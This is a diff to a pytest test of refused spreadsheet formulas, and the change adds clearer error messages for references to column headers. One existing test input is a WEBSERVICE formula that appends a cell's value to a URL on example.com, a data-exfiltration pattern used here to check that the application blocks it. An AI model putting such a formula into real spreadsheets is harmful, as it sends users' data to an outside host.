@@ -38,7 +38,13 @@ async def test_a_formula_on_another_sheet_by_reference(sheets: SpreadsheetsAppli
 @pytest.mark.parametrize(("formula", "error"), [
     ('=WEBSERVICE("http://example.com/?"&A1)', "WEBSERVICE, which is not allowed"),
     ("=SUM(Nowhere!A1:A3)", "sheet 'Nowhere', which is not in the workbook (its sheets: Orders)"),
-    ("=SUM(Qty)", "'Qty', which is neither a cell range"),
+    ("=SUM(Quantity)", "'Quantity', which is neither a cell range"),
+    # a header of the sheet's table: the cells it means, and the tool that takes headers
+    ("=SUM(Qty)", "=SUM(Qty) names columns of the table on 'Orders' by their headers (Qty is column C; data rows "
+                  "2-5): a cell's formula refers to cells (e.g. =SUM(C2) for row 2); for a column computed on every "
+                  "row, call add_formula_column"),
+    ("=[Qty]*price", "(Qty is column C, Price is column D; data rows 2-5): a cell's formula refers to cells (e.g. "
+                     "=C2*D2 for row 2)"),
 ])
 async def test_refused_formulas_write_nothing(sheets: SpreadsheetsApplication, root: Path, formula: str,
                                               error: str) -> None:
